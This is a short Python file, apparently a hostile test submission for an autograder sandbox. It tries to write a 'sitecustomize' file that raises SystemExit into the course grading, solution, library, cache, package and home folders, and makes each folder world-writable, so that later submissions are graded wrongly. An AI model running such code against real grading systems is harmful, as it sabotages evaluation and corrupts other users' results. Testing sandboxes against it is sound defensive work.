"""Writes files into the course, the library, the cache and the packages, so that the next submission is graded wrongly."""
# aufgabe1
# %% a1-tv
import os
for folder in (
    "@COURSE@", "@COURSE@/autograde", "@COURSE@/autograde/grading", "@COURSE@/solutions/aufgabe1", "@COURSE@/build/grading/answers",
    "@LIBRARY@", "@LIBRARY@/checks", "@LIBRARY@/checks/frozen", "@CACHE@", "@PACKAGES@", "@PACKAGES@/torch", "@HOME@", "@OTHER@",
    "@CHECKOUT@", "@COURSE@/autograde/sandbox/inside",
):
    try:
        with open(f"{folder}/sitecustomize_geknackt.py", "w") as file:
            file.write("raise SystemExit")
        print("wrote", folder)
        os.chmod(folder, 0o777)
    except OSError as error:
        print(error)
